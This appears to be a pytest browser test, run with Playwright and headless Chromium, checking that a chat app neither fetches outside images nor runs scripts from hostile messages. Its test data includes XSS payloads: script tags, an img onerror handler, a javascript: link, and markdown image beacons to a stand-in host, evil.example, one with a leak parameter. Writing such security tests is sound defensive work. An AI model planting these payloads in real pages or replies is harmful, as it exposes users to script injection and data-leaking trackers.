"""Hostile messages in headless Chromium: outside images are not fetched, scripts do not run.

Reuses the browser fixtures of tests/test_browser.py (Debian's chromium through Playwright; skipped
when chromium is missing).
"""

from __future__ import annotations

import threading
from urllib.parse import urlparse

import pytest

from tests.fakes import FakeEngine
from tests.served import serve, wait_until
from tests.test_browser import browser, chat_text, open_app, page  # noqa: F401 - the shared fixtures

pytestmark = pytest.mark.browser

EVIL = "evil.example"
USER_TEXT = (f"看图 ![pixel](http://{EVIL}/user.png) <img src=http://{EVIL}/tag.png> "
             "<script>window.__pwned = 'user'</script>")
REPLY = [f"好的 ![tracker](https://{EVIL}/reply.png?leak=1) ",
         f"![ref][r]\n\n[r]: https://{EVIL}/ref.png\n\n",
         "<script>window.__pwned = 'reply'</script><img src=x onerror=\"window.__pwned = 'onerror'\"> ",
         "[点我](javascript:window.__pwned='link') ",
         "回复完毕"]


def test_outside_images_are_not_fetched_and_scripts_do_not_run(page):  # noqa: F811 - the fixture
    engine = FakeEngine(reply_pieces=REPLY)
    with serve(engine) as app:
        own = urlparse(app.local_url).netloc
        outside: list[str] = []
        lock = threading.Lock()

        def only_own_host(route):
            if urlparse(route.request.url).netloc in ("", own):
                route.continue_()
            else:
                with lock:
                    outside.append(route.request.url)
                route.abort()  # nothing leaves the machine even if the page asks

        page.route("**/*", only_own_host)
        open_app(page, app)
        page.fill("#msg textarea", USER_TEXT)
        page.press("#msg textarea", "Enter")
        page.wait_for_function("document.querySelector('#chatbot').innerText.includes('回复完毕')")
        wait_until(lambda: "⏱" in chat_text(page), what="the finished reply")

        shown = chat_text(page)
        assert f"![pixel](http://{EVIL}/user.png)" in shown and f"![tracker](https://{EVIL}/reply.png?leak=1)" in shown
        assert "<script>window.__pwned = 'reply'</script>" in shown  # shown as text
        assert page.locator(f"#chatbot img[src*='{EVIL}']").count() == 0
        assert page.locator("#chatbot script").count() == 0
        hrefs = page.eval_on_selector_all("#chatbot a", "els => els.map(e => e.getAttribute('href') || '')")
        assert not [h for h in hrefs if h.strip().lower().startswith("javascript:")]
        for link in page.locator("#chatbot a").all():
            link.click(modifiers=["Control"], no_wait_after=True)  # even a click runs nothing on the page
        assert page.evaluate("window.__pwned") is None
    requested = {urlparse(u).netloc for u in page.requested if not u.startswith(("data:", "blob:"))}
    assert outside == [] and requested == {own}, f"the page asked other hosts: {outside or requested - {own}}"
